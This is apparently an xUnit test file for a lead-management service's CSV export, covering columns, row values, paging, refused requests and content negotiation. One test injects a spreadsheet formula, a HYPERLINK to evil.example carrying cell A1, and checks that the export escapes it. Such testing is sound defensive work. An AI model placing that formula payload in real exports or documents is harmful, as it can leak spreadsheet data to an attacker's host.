using System.Text.Json;
using LeadFunctions.Tests.Infrastructure;
using LeadFunctions.Tests.Intake;
using LeadFunctions.Tests.Store;

namespace LeadFunctions.Tests.Runs;

public sealed class RunExportTests
{
    private static readonly string[] OfLead =
    [
        "leadId", "receivedAt", "source", "event", "status", "isTest", "doNotContact", "firstName", "lastName", "email", "phone", "company",
        "title", "country", "offerTitle", "actionCode", "leadSource", "description",
    ];

    [Fact]
    public async Task The_first_row_names_the_columns_and_each_destination_has_two()
    {
        await using var app = await LeadApp.StartAsync();

        var header = Assert.Single(await app.ExportAsync());

        Assert.Equal([.. OfLead, "crm", "crm error", "mail", "mail error"], header);
    }

    [Fact]
    public async Task A_lead_is_a_row_with_what_became_of_it_everywhere()
    {
        await using var app = await LeadApp.StartAsync(time: new ManualTime());
        var lead = (await app.AcceptAsync(Samples.Documented)).LeadId;
        await app.WaitForStatusAsync(lead, "delivered");

        var row = (await app.ExportAsync())[1];

        Assert.Equal(
            [
                lead.ToString(),
                "2026-11-21T09:00:00.000Z",
                "marketplace",
                "",
                "delivered",
                "false",
                "false",
                "Some",
                "One",
                "someone@contoso.com",
                "16175555555",
                "Contoso",
                "Esquire",
                "USA",
                "Test Microsoft",
                "INS",
                "AzureMarketplace",
                "Test run through Power Automate",
                "delivered",
                "",
                "delivered",
                "",
            ],
            row);
    }

    [Fact]
    public async Task A_dead_letters_reason_is_beside_its_status()
    {
        // Due in an hour of a clock that stands still, so that the program itself leaves it alone.
        await using var app = await LeadApp.StartAsync(time: new ManualTime());
        var due = Posted.At + TimeSpan.FromHours(1);
        await app.Store.KeepAsync(due, "crm");
        Assert.True(await app.Store.DeadLetterAsync(await app.Store.TakeOneAsync(due), due, "=a reason, with a comma"));

        Assert.Equal(
            ["dead_letter", "'=a reason, with a comma", "", ""],
            (await app.ExportAsync("?format=csv&status=dead_letter"))[1][^4..]);
    }

    [Fact]
    public async Task A_formula_opens_as_the_text_that_it_is()
    {
        await using var app = await LeadApp.StartAsync();
        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        await app.AcceptAsync(
            JsonSerializer.Serialize(
                new
                {
                    OfferTitle = Formula,
                    Description = "line 1\r\n=line 2; \"quoted\"",
                    UserDetails = new
                    {
                        Phone = "+1 617 555",
                        Company = " @x",
                        Email = "a@contoso.com",
                    },
                }));

        var row = (await app.ExportAsync())[1];

        Assert.Equal("'" + Formula, row[Array.IndexOf(OfLead, "offerTitle")]);
        Assert.Equal("'+1 617 555", row[Array.IndexOf(OfLead, "phone")]);
        Assert.Equal("a@contoso.com", row[Array.IndexOf(OfLead, "email")]);
        Assert.Equal("line 1\r\n=line 2; \"quoted\"", row[Array.IndexOf(OfLead, "description")]);
    }

    [Fact]
    public async Task Everything_that_matches_is_exported_however_many_pages_it_takes()
    {
        await using var app = await LeadApp.StartAsync();
        var leads = await Task.WhenAll(
            Enumerable.Range(0, 230).Select(number => app.KeepAsync($$"""{"OfferTitle":"Offer {{number % 2}}"}""", Posted.At, "erp")));

        var rows = await app.ExportAsync("?format=csv&text=offer%201&take=3");

        Assert.Equal(115, rows.Count - 1);
        Assert.Empty(rows.Skip(1).Select(row => Guid.Parse(row[0])).Except(leads.Select(lead => lead.Id.Value)));
        Assert.Equal(
            rows.Skip(1).Select(row => row[0]).Distinct().OrderDescending(StringComparer.Ordinal),
            rows.Skip(1).Select(row => row[0]));
    }

    [Fact]
    public async Task Refused_bodies_are_exported_with_what_was_wrong()
    {
        await using var app = await LeadApp.StartAsync();
        var refused = await ProblemAnswer.RefuseAsync(app, """{"ActionCode":5,"Description":[]}""");

        var rows = await app.ExportAsync("?format=csv&status=refused", "refused.csv");

        Assert.Equal(["refusedId", "receivedAt", "source", "event", "httpStatus", "errors", "body"], rows[0]);
        Assert.Equal((refused.RefusedId.ToString(), "400", """{"ActionCode":5,"Description":[]}"""), (rows[1][0], rows[1][4], rows[1][6]));
        Assert.Equal(["/ActionCode", "/Description"], rows[1][5].Split('\n').Select(error => error.Split(' ')[0]).Order());
    }

    [Theory]
    [InlineData("text/csv", true)]
    [InlineData("Text/CSV; charset=utf-8", true)]
    [InlineData("application/json;q=0.5, text/csv", true)]
    [InlineData("text/csv;q=0.5, application/json", false)]
    [InlineData("text/csv;q=0", false)]
    [InlineData("*/*", false)]
    public async Task The_accept_header_chooses_where_format_does_not(string accept, bool csv)
    {
        await using var app = await LeadApp.StartAsync();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/runs");
        request.Headers.TryAddWithoutValidation("Accept", accept);

        using var response = await app.Client.SendAsync(request, TestContext.Current.CancellationToken);

        Assert.Equal(csv ? "text/csv" : "application/json", response.Content.Headers.ContentType?.MediaType);
    }
}
